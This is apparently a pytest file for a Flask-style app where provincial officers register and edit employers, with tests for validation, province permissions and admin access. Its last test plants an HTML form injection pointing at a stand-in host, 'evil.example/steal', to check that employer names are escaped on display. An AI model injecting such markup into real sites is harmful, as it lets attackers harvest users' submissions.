"""Registering and editing employers."""

import pytest
from sqlalchemy import select

from reintegration.auth.models import Role
from reintegration.employers.models import Employer, EmployerKind
from reintegration.extensions import db
from tests.helpers import count, field_errors, form_errors, in_english, reload, sign_in

from .helpers import employer


@pytest.fixture
def officer(make, auth, client):
    user = sign_in(auth, make.user(Role.PROVINCIAL_OFFICER, province="NA"))
    in_english(client)
    return user


def _form(make, **overrides):
    data = {
        "name": "Hợp tác xã Mây tre đan Thanh Chương",
        "kind": "cooperative",
        "sector": "Thủ công mỹ nghệ",
        "province": make.province("NA").id,
        "commune": "",
        "address": "Xóm 3",
        "contact_name": "Chủ nhiệm hợp tác xã",
        "contact_phone": "0238 3822 111",
    }
    data.update(overrides)
    return data


def test_an_officer_registers_an_employer_of_the_province(client, make, officer):
    commune = make.commune(make.province("NA"))
    db.session.commit()

    response = client.post("/employers/new", data=_form(make, commune=commune.id))

    stored = db.session.scalar(select(Employer))
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/employers/{stored.id}")
    assert stored.name == "Hợp tác xã Mây tre đan Thanh Chương"
    assert stored.kind == EmployerKind.COOPERATIVE
    assert (stored.province.code, stored.commune_id) == ("NA", commune.id)
    assert (stored.contact_name, stored.contact_phone) == ("Chủ nhiệm hợp tác xã", "0238 3822 111")


def test_editing_an_employer_keeps_what_was_not_changed(client, make, officer):
    made = employer(make, "NA", name="Công ty Cũ", sector="May mặc")
    db.session.commit()

    page = client.get(f"/employers/{made.id}/edit").get_data(as_text=True)
    response = client.post(
        f"/employers/{made.id}/edit",
        data=_form(make, name="Công ty Mới", kind="business", sector="May mặc"),
    )

    assert 'value="Công ty Cũ"' in page
    assert response.status_code == 302
    made = reload(made)
    assert (made.name, made.kind, made.sector) == ("Công ty Mới", EmployerKind.BUSINESS, "May mặc")


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"name": ""}, "name", "This field is required."),
        ({"name": "x" * 201}, "name", "Field cannot be longer than 200 characters."),
        ({"kind": "charity"}, "kind", "Not a valid choice."),
        ({"province": ""}, "province", "This field is required."),
        (
            {"contact_phone": "1" * 51},
            "contact_phone",
            "Field cannot be longer than 50 characters.",
        ),
        ({"address": "x" * 301}, "address", "Field cannot be longer than 300 characters."),
    ],
)
def test_bad_employer_input_is_shown_beside_the_field_and_nothing_is_saved(
    client, make, officer, overrides, field, message
):
    response = client.post("/employers/new", data=_form(make, **overrides))

    assert response.status_code == 200
    assert message in field_errors(response, field)
    assert form_errors(response)
    assert count(Employer) == 0


def test_an_officer_cannot_register_an_employer_in_another_province(client, make, officer):
    response = client.post("/employers/new", data=_form(make, province=make.province("HT").id))

    assert field_errors(response, "province") == ["Not a valid choice."]
    assert count(Employer) == 0


def test_the_commune_must_lie_in_the_chosen_province(client, make, officer):
    elsewhere = make.commune(make.province("HT"))
    db.session.commit()

    response = client.post("/employers/new", data=_form(make, commune=elsewhere.id))

    assert field_errors(response, "commune") == ["This commune is not in the chosen province."]
    assert count(Employer) == 0


def test_an_administrator_may_register_employers_anywhere(client, make, auth):
    sign_in(auth, make.user(Role.ADMIN))

    response = client.post("/employers/new", data=_form(make, province=make.province("HT").id))

    assert response.status_code == 302
    assert db.session.scalar(select(Employer)).province.code == "HT"


PLANTED = '<form action="https://evil.example/steal"><button>OK</button></form>'


@pytest.mark.parametrize("passed", [None, False])
def test_an_employer_name_holding_html_is_shown_as_text_in_its_warning(
    client, make, officer, passed
):
    from .helpers import check

    planted = employer(make, name=PLANTED)
    if passed is not None:
        check(make, planted, passed=passed)
    db.session.commit()

    page = client.get(f"/employers/{planted.id}").get_data(as_text=True)

    assert "&lt;form action=&#34;https://evil.example/steal&#34;&gt;" in page
    assert PLANTED not in page
    assert 'evil.example/steal"' not in page
